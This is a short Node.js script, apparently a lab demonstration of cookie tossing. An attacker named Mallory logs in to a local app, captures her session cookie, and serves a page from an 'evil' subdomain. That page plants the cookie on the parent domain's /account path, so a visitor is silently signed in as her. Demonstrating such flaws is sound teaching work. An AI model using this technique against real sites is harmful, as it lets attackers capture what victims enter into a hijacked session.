/*
 * Mallory's page on a subdomain of the app's host: it tosses her cookie into your own browser.
 */
import { createServer } from 'node:http';

const { PORT = '4000', PAGE_PORT = '4666', MALLORY_PASSWORD = '' } = process.env;

console.log('Mallory logs in, and takes the cookie that she gets.');
const login = await fetch(`http://localhost:${PORT}/login`, {
  method: 'POST',
  body: new URLSearchParams({ name: 'mallory', password: MALLORY_PASSWORD }),
  redirect: 'manual',
});
const [cookie = ''] = (login.headers.getSetCookie()[0] ?? '').split(';');

const page = `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<title>A nice page</title>
<h1>A nice page</h1>
<p><a href="http://shop.localhost:${PORT}/account">Back to your account</a></p>
</html>
`;

createServer((req, res) => {
  res.setHeader('Set-Cookie', `${cookie}; Domain=shop.localhost; Path=/account; Secure`);
  res.setHeader('Content-Type', 'text/html').end(page);
}).listen(Number(PAGE_PORT), 'localhost', () => {
  console.log(`Mallory's page: http://evil.shop.localhost:${PAGE_PORT}. Ctrl-C takes it down.`);
});
